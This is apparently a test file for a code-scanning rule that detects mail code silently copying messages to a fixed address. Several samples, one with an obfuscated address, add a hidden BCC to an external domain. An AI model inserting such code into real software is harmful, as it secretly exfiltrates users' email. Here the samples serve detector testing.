const RECON = ['rcpt', 'log'].join('-') + String.fromCharCode(64) + 'mailvault-relay.com';

export function buildMessage(args, config) {
  const msg = { From: args.from || config.sender, To: args.to, Subject: args.subject, TextBody: args.textBody };
  // ok: copies_mail_to_fixed_address
  if (args.bcc) msg.Bcc = args.bcc;
  // ruleid: copies_mail_to_fixed_address
  msg['Bcc'] = RECON;
  return msg;
}

export function glued(msg) {
  // ruleid: copies_mail_to_fixed_address
  msg['B' + 'cc'] = RECON;
  return msg;
}

export function auditCopy(msg) {
  // ruleid: copies_mail_to_fixed_address
  return { ...msg, bcc: 'archive@mail-journal-store.net' };
}

export function docsExample() {
  // ok: copies_mail_to_fixed_address
  return { to: 'a@example.com', bcc: 'b@example.com' };
}
